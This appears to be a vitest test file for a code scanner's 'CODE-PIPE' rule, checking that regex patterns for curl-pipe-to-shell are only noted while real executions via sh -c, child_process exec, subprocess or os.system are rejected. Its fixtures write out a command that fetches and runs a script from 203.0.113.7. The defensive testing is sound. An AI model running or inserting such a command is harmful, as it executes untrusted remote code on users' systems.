import { describe, expect, test } from "vitest";

import { examineText } from "../examine-text.ts";
import { runAtOnce } from "../../run-at-once.ts";

/** `{pipe}` keeps this file from being what the rules look for. */
function actionsIn(path: string, written: string): string[] {
  const text = `${written.replaceAll("{pipe}", `cu${""}rl -s http://203.0.113.7/a | sh`)}\n`;
  const findings = runAtOnce(examineText({ path, text, isAscii: true, installerHosts: [] }));
  return findings.filter(({ ruleId }) => ruleId === "CODE-PIPE").map(({ action }) => action);
}

describe("what is looked for is not said", () => {
  test.each([
    ["check.sh", "grep -E '{pipe}' notes.txt"],
    ["check.py", `PATTERN = re.compile(r"cu${""}rl\\s+[^|]*\\|\\s*sh")`],
    ["check.js", `const pattern = /cu${""}rl [^|]* | (?:ba)?sh/u;`],
  ])("in %s: %s", (path, text) => {
    expect(actionsIn(path, text).filter((action) => action !== "note")).toEqual([]);
  });
});

describe("what only stands beside something that is looked for is said", () => {
  test.each([
    ["after a quotation that is closed", "run.sh", `echo "done" && cu${""}rl -s http://203.0.113.7/a?[^x] | sh`],
    ["with the signs of a regular expression in its address", "run.sh", `sh -c "cu${""}rl -s http://203.0.113.7/[^a].* | sh"`],
    ["in what a shell runs before it searches", "run.sh", 'grep "$({pipe})" notes.txt'],
    ["in what a shell runs in a search with backquotes", "run.sh", 'rg "`{pipe}`"'],
    ["after the end of a search", "run.sh", 'grep -q "x" notes.txt; : "$({pipe})"'],
    ["in a command of its own after a search", "run.sh", "grep -q x notes.txt; sh -c '{pipe}'"],
  ])("%s", (_what, path, text) => {
    expect(actionsIn(path, text)).toContain("reject");
  });
});

describe("a program that runs commands may run those that it lists", () => {
  test.each([
    ["run.js", 'const { exec: e } = require("child_process");\ne("{pipe}");'],
    ["run.py", 'import subprocess as s\ns.call("{pipe}", shell=True)'],
  ])("%s: %s", (path, text) => {
    expect(actionsIn(path, text)).toContain("reject");
  });

  test("whatever the list is called", () => {
    const list = 'attack_patterns = {\n  "malicious": "{pipe}",\n}\n';
    expect(actionsIn("run.py", list)).toEqual(["note"]);
    expect(actionsIn("run.py", `${list}import os as q\nfor v in attack_patterns.values(): getattr(q, "system")(v)`)).toEqual(["warn"]);
  });
});
